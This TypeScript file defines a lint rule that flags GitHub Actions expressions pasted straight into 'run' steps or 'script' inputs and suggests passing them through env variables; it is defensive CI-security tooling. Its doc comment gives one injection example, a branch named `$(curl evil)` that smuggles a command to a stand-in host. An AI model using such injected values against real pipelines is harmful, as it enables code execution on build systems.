import { expressionsIn } from '../files/expressions.ts';
import { stepsOf } from '../files/jobs.ts';
import type { Rule } from './rule.ts';

/** A branch can be called `$(curl evil)`: GitHub pastes it in before the shell reads. zizmor: template-injection. */
export const noExpressionsInCode: Rule = {
  id: 'no-expressions-in-code',
  asks: 'Nothing is pasted into a script; it comes in through a variable',
  *check(set) {
    for (const { source, step, path } of stepsOf(set))
      for (const [code, at] of [
        [step.run, [...path, 'run']],
        [step.with?.['script'], [...path, 'with', 'script']],
      ] as const)
        for (const expression of expressionsIn(String(code ?? '')))
          yield {
            place: source.place(...at),
            message: `Hand "${expression}" over by "env:", and write "$NAME" in the script`,
          };
  },
};
